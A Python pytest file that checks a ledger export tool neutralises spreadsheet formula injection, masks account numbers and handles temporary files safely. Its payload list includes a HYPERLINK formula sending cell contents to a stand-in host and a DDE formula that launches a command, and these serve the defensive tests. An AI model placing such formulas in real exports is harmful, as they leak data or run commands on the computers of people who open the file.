"""The ledger export: formula payloads neutralised, accounts masked, temporary files kept
beside the target and cleaned up, and the export read back as its own format."""

from __future__ import annotations

import os
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from qiake_auditor.exports import write_ledger
from qiake_auditor.fileio import remove_left_overs
from qiake_auditor.ingest import import_paths, read_statements
from qiake_auditor.ledger import LEDGER_COLUMNS
from qiake_auditor.masking import mask_account_numbers
from qiake_auditor.workspace import Workspace

GOLDEN = Path(__file__).parent / "data" / "golden"
PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "'quoted",
]


def _ledger(tmp_path: Path) -> pd.DataFrame:
    with Workspace(tmp_path / "ws.sqlite") as ws:
        import_paths([GOLDEN / "wechat/wechat-bill.csv", GOLDEN / "mt940/envelope.sta"], ws)
        return ws.ledger()


def _hostile(rows: pd.DataFrame) -> pd.DataFrame:
    rows = rows.copy()
    for i, payload in enumerate(PAYLOADS):
        rows.loc[rows.index[i], "description"] = payload
        rows.loc[rows.index[i], "counterparty"] = payload
    return rows


def test_csv_export_neutralises_formulas_and_reads_back_exactly(tmp_path: Path) -> None:
    rows = _hostile(_ledger(tmp_path))
    out = write_ledger(rows, tmp_path / "ledger.csv", full_accounts=True)
    cells = pd.read_csv(out, dtype="str", keep_default_na=False, encoding="utf-8-sig")
    for value in cells["description"].tolist() + cells["counterparty"].tolist():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    back = read_statements(out)[0].rows
    assert back["description"].tolist()[: len(PAYLOADS)] == PAYLOADS
    assert back["amount"].tolist() == rows["amount"].tolist()


def test_xlsx_export_writes_text_cells_never_formulas(tmp_path: Path) -> None:
    rows = _hostile(_ledger(tmp_path))
    out = write_ledger(rows, tmp_path / "ledger.xlsx")
    with zipfile.ZipFile(out) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    back = read_statements(out)[0].rows
    assert back["description"].tolist()[: len(PAYLOADS)] == [p.strip() for p in PAYLOADS]


def test_accounts_are_masked_unless_asked(tmp_path: Path) -> None:
    rows = _ledger(tmp_path)
    assert "DE89370400440532013000" in set(rows["method"])
    shared = write_ledger(rows, tmp_path / "shared.csv").read_text(encoding="utf-8-sig")
    assert "DE89370400440532013000" not in shared and "****3000" in shared
    assert "招商银行(1111)" in shared  # a card tail is not an account number
    full = write_ledger(rows, tmp_path / "full.csv", full_accounts=True)
    assert "DE89370400440532013000" in full.read_text(encoding="utf-8-sig")


@pytest.mark.parametrize(
    "text, masked",
    [
        ("DE89370400440532013000", "****3000"),
        ("12345678", "****5678"),
        ("招商银行(1111)", "招商银行(1111)"),
        ("零钱", "零钱"),
        ("", ""),
    ],
)
def test_mask_account(text: str, masked: str) -> None:
    assert mask_account_numbers(text) == masked


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_reads_back_as_its_own_format_adding_nothing(tmp_path: Path, suffix: str) -> None:
    rows = _ledger(tmp_path)
    out = write_ledger(rows, tmp_path / f"ledger{suffix}")
    statement = read_statements(out)[0]
    assert statement.importer.id == f"ledger-{suffix[1:]}"
    with Workspace(tmp_path / "ws.sqlite") as ws:
        reports, _ = import_paths([out], ws)
        assert reports[0].added == 0 and len(ws.ledger()) == len(rows)
    with Workspace(tmp_path / "other.sqlite") as ws:
        reports, _ = import_paths([out], ws)
        again = ws.ledger()
    assert reports[0].added == len(rows)
    assert sorted(again["dedup_key"]) == sorted(rows["dedup_key"])
    same = [
        c for c in LEDGER_COLUMNS if c not in ("source", "source_sha256", "source_row", "method")
    ]
    key = ["format", "time", "amount", "description", "txn_id"]
    assert (
        again[same]
        .sort_values(key)
        .reset_index(drop=True)
        .equals(rows[same].sort_values(key).reset_index(drop=True))
    )


def test_an_xlsx_export_writes_nothing_but_its_own_temporary(tmp_path: Path, monkeypatch) -> None:
    """Ledger rows never go to the shared system temp folder: while the sheet is being
    written, the only file is the hidden temporary beside the target, renamed at the end."""
    import tempfile

    from qiake_auditor.xlsx_sheet import SheetWriter

    system_tmp = tmp_path / "system-tmp"
    system_tmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(system_tmp))
    seen: list[list[str]] = []
    real = SheetWriter.add

    def spy(self, rows):
        seen.append(os.listdir(tmp_path / "out"))
        return real(self, rows)

    monkeypatch.setattr(SheetWriter, "add", spy)
    (tmp_path / "out").mkdir()
    write_ledger(_ledger(tmp_path), tmp_path / "out" / "ledger.xlsx")
    assert seen and all(
        len(names) == 1 and names[0].startswith(".ledger.xlsx.") and names[0].endswith(".part")
        for names in seen
    )
    assert os.listdir(system_tmp) == []
    assert os.listdir(tmp_path / "out") == ["ledger.xlsx"]


def test_left_overs_of_a_killed_export_are_removed_on_the_next_run(tmp_path: Path) -> None:
    target = tmp_path / "ledger.csv"
    old = tmp_path / ".ledger.csv.0123456789ab.part"
    old_sheet = tmp_path / ".ledger.csv.0123456789ab.sheet.part"
    fresh = tmp_path / ".ledger.csv.ba9876543210.part"  # another writer, right now
    other = tmp_path / ".other.csv.0123456789ab.part"
    for path in (old, old_sheet, fresh, other):
        path.write_text("rows")
    stale = time.time() - 7 * 3600
    for path in (old, old_sheet, other):
        os.utime(path, (stale, stale))
    write_ledger(_ledger(tmp_path), target)
    assert not old.exists() and not old_sheet.exists()
    assert fresh.exists() and other.exists()
    assert remove_left_overs(target) == []


@pytest.mark.parametrize("name", ["l.txt", "ledger"])
def test_bad_export_suffix_is_refused(tmp_path: Path, name: str) -> None:
    from qiake_auditor.errors import UserError

    with pytest.raises(UserError) as caught:
        write_ledger(_ledger(tmp_path), tmp_path / name)
    assert caught.value.message_id == "export.bad_suffix"
